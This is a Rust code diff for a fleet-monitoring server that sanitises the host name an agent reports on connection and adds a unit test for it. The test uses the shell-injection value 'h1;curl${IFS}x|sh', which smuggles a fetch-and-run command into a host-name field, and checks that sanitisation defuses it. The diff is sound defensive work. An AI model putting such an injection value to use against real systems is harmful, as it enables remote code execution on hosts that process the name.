@@ -3,7 +3,7 @@
 use std::time::Duration;
 
 use analysis::Timestamp;
-use analysis::fleet::{Capability, HostFacts};
+use analysis::fleet::{Capability, HostFacts, is_of_host_name};
 use proto::v1;
 
 use crate::db::hosts::{Connected, Heard};
@@ -17,7 +17,7 @@ const MAX_LIST: usize = 64;
 pub(super) fn connected(hello: &v1::Hello, boot_id: uuid::Uuid, now: Timestamp) -> Connected {
     let host = hello.host.clone().unwrap_or_default();
     Connected {
-        host_name: clean(&host.host_name),
+        host_name: clean(&host.host_name).replace(|c: char| !is_of_host_name(c), "_"),
         machine_id: clean(&host.machine_id),
         facts: HostFacts {
             agent_version: clean(&host.agent_version),
@@ -80,4 +80,23 @@ pub(super) fn wall_ns(now: Timestamp) -> i64 {
 /// Whole seconds of a duration, as the wire has them.
 pub(super) fn seconds(duration: Duration) -> u32 {
     u32::try_from(duration.as_secs()).unwrap_or(u32::MAX)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_shell_obeys_the_name_of_a_host() {
+        let host = v1::HostFacts {
+            host_name: "h1;curl${IFS}x|sh".into(),
+            ..v1::HostFacts::default()
+        };
+        let hello = v1::Hello {
+            host: Some(host),
+            ..v1::Hello::default()
+        };
+        let connected = connected(&hello, uuid::Uuid::nil(), Timestamp::UNIX_EPOCH);
+        assert_eq!(connected.host_name, "h1_curl__IFS_x_sh");
+    }
 }
